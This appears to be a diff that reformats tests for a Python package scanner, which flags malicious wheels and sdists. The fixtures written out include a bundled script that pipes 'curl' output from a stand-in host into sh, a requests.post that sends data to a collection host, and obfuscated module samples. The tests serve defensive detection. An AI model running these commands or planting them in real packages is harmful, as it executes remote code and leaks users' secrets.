@@ -57,7 +57,9 @@ SCRIPT_RUN = (
     [
         (
             "a shipped script that downloads and runs",
-            _hooked(SCRIPT_RUN, **{"tools/post.sh": "#!/bin/sh\ncurl -s https://x.example/p | sh\n"}),
+            _hooked(
+                SCRIPT_RUN, **{"tools/post.sh": "#!/bin/sh\ncurl -s https://x.example/p | sh\n"}
+            ),
             "install-run-bundled",
             True,
         ),
@@ -137,7 +139,9 @@ requests.post("https://collect.example/", data=str(everything))
 
 
 @pytest.mark.parametrize(
-    "source", [ENV_BY_ATTRIBUTE, ENV_BY_ALIAS, ENV_BY_GETATTR], ids=["attribute", "alias", "getattr"]
+    "source",
+    [ENV_BY_ATTRIBUTE, ENV_BY_ALIAS, ENV_BY_GETATTR],
+    ids=["attribute", "alias", "getattr"],
 )
 def test_the_environment_sent_out_under_another_name(source: str) -> None:
     rules, held = _rules(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
@@ -199,7 +203,11 @@ O0O0O0O0O0 = 'y'
 
 def test_an_imported_module_that_hides_its_code_is_read_as_import_time_code() -> None:
     archive = sdist(
-        {"PKG-INFO": pkg_info(), "demo/__init__.py": "from .util import *\n", "demo/util.py": JUNK_NAMES}
+        {
+            "PKG-INFO": pkg_info(),
+            "demo/__init__.py": "from .util import *\n",
+            "demo/util.py": JUNK_NAMES,
+        }
     )
     report = scan_archive(archive, "demo-1.0.tar.gz")
     hidden = [f for f in report.findings if f.rule == "obfuscated"]
